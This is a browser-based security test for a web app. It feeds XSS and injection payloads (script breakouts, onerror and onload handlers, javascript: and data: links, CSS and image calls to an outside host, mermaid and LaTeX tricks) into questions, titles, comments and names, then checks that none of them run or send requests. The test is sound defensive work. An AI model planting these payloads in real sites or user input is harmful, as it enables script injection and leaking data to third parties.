/** Words that would like to be more than words: in questions, answers, titles, comments and links. */
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { expectNoProblems, visit } from '#testing/browser.ts';
import { app, openAs, useAppWithEngines, world } from './app-and-browser.ts';
import { callAs, type Call } from './call-api.ts';
import { makeMember } from './people.ts';

const script = `</script><script>globalThis.caught=1</script><img src=x onerror="globalThis.caught=2">`;
const elsewhere = 'https://elsewhere.invalid';
const answer = [
  `The tower is 330 m tall. ${script}`,
  `![seen](${elsewhere}/picture.png?asked=secret) <img src="${elsewhere}/tag.png">`,
  `<style>@import "${elsewhere}/a.css"; body{background:url(${elsewhere}/b.png)}</style>`,
  `<iframe src="javascript:parent.caught=3"></iframe><svg onload="globalThis.caught=4"></svg>`,
  `<link rel="prefetch" href="${elsewhere}/c"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  '[press me](javascript:globalThis.caught=5) [or me](data:text/html,<script>alert(1)</script>)',
  String.raw`$\href{javascript:globalThis.caught=6}{x} \includegraphics{${elsewhere}/d.png} \htmlStyle{background:url(${elsewhere}/e)}{y}$`,
  [
    '```mermaid',
    'graph TD',
    `A["<img src=x onerror=caught=7>"] --> B`,
    `click A href "javascript:caught=8"`,
    '```',
  ].join('\n'),
].join('\n\n');

useAppWithEngines();

async function run(call: Call, question: string) {
  const input = { question, panel: ['grove/alpha', 'grove/beta'], mode: 'consensus' };
  const { id } = await call<{ id: string }>('POST', '/api/tools/consensus/runs', { input });
  return id;
}

/** Nothing ran, nothing was called, and no link leads to a script. */
async function expectOnlyWords(page: Page, called: string[]) {
  expect(await page.evaluate(() => (globalThis as { caught?: number }).caught)).toBeUndefined();
  expect(called).toEqual([]);
  const hrefs = await page
    .locator('a[href]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  for (const href of hrefs) expect(href).not.toMatch(/^\s*(?:javascript|data|vbscript):/i);
  expect(await page.locator('main :is(iframe, object, embed, style, form[action^="http"])').count()).toBe(0);
}

test('whatever is asked, answered, said or named stays words, and calls nobody', async () => {
  const ada = await makeMember(app, 'ada');
  const call = callAs(app, ada);
  for (const _ of ['alpha', 'beta']) world.provider.play({ to: 'How tall', words: [answer] });
  const id = await run(call, `How tall is it? ${script}`);
  const stateOf = async () => (await call<{ state: string }>('GET', `/api/runs/${id}`)).state;
  await expect.poll(stateOf).toBe('done');
  const wishes = { withInput: true, parts: 'all' };
  const { secret } = await call<{ secret: string }>('POST', `/api/runs/${id}/shares`, wishes);
  const said = { title: script, caption: script, tags: [], showInput: true };
  const { id: hung } = await call<{ id: string }>('POST', `/api/runs/${id}/gallery`, said);
  await call('POST', `/api/gallery/${hung}/comments`, { text: script });
  await call('POST', '/api/talk-folders', { name: script.slice(-60) });
  await call('POST', '/api/consensus/panels', { name: script.slice(-60), engines: ['bamboo'] });

  const opened = await openAs(ada);
  const { page } = opened;
  const called: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (/^https?:$/.test(protocol) && origin !== app.url) called.push(request.url());
  });
  page.on('dialog', (dialog) => {
    called.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  for (const path of [`/ai/consensus?run=${id}`, `/shared/${secret}`, `/gallery/${hung}`, '/gallery']) {
    await visit(page, path);
    await page.getByText('The tower is 330 m tall.').first().waitFor();
    await expectOnlyWords(page, called);
  }
  for (const path of ['/chat/history', '/settings?tab=links']) {
    await visit(page, path);
    await page.getByText('globalThis.caught').first().waitFor();
    await expectOnlyWords(page, called);
  }
  expectNoProblems(opened);
  await opened.close();
});
